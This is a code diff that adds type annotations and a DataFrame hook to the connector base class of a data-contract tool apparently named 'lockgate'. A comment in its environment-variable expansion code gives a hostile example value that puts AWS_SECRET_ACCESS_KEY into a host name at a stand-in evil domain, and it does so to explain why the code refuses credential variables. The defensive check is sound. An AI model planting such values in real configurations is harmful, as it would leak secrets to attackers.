@@ -5,13 +5,16 @@ from __future__ import annotations
 import os
 import re
 from abc import ABC, abstractmethod
-from typing import Any
+from typing import TYPE_CHECKING, Any, Self
 
 import ibis
 import ibis.expr.datatypes as dt
 from sqlglot import exp
 
 from lockgate.errors import LockgateError
+
+if TYPE_CHECKING:
+    import pandas as pd
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
 # A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
@@ -27,7 +30,7 @@ def expand_env(value: Any) -> Any:
     if not isinstance(value, str):
         return value
 
-    def replace(match: re.Match) -> str:
+    def replace(match: re.Match[str]) -> str:
         name, default = match.group(1), match.group(2)
         if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
             raise LockgateError(
@@ -102,21 +105,21 @@ class Connector(ABC):
         exist."""
 
     @abstractmethod
-    def fetch(self, sql: str) -> tuple[list[str], list[tuple]]:
+    def fetch(self, sql: str) -> tuple[list[str], list[tuple[Any, ...]]]:
         """Run one query; return column names and rows."""
 
     @abstractmethod
-    def type_parser(self):
+    def type_parser(self) -> Any:
         """The ibis type parser of this dialect (`from_string`)."""
 
     # an optional hook (no-op by default), not an abstract method
     def close(self) -> None:  # noqa: B027  # pragma: no cover - trivial
         pass
 
-    def __enter__(self):
+    def __enter__(self) -> Self:
         return self
 
-    def __exit__(self, *exc):
+    def __exit__(self, *exc: object) -> None:
         self.close()
 
     # -- shared ----------------------------------------------------------------------------------
@@ -131,13 +134,12 @@ class Connector(ABC):
         for name, native in cols:
             try:
                 schema[name] = parse(native)
-            except (
-                Exception
-            ):  # an exotic type ibis cannot name: still checkable for nulls/duplicates
+            except Exception:
+                # an exotic type ibis cannot name: still checkable for nulls/duplicates
                 schema[name] = dt.unknown
         return ibis.table(ibis.schema(schema), name=table, database=self.namespace)
 
-    def to_sql(self, expr) -> str:
+    def to_sql(self, expr: ibis.Expr) -> str:
         return str(ibis.to_sql(expr, dialect=self.dialect))
 
     def quote_table(self, table: str) -> str:
@@ -151,6 +153,10 @@ class Connector(ABC):
         (`LOCKGATE_STATEMENT_TIMEOUT`); connectors whose database has no timeout of its own
         override it."""
         return self.fetch_value(sql)
+
+    def fetch_frame(self, table: str) -> pd.DataFrame:
+        """The whole table as a pandas DataFrame (for the frame engine)."""
+        raise LockgateError(f"a {type(self).__name__} cannot read tables into DataFrames")
 
     def fetch_value(self, sql: str) -> Any:
         names, rows = self.fetch(sql)
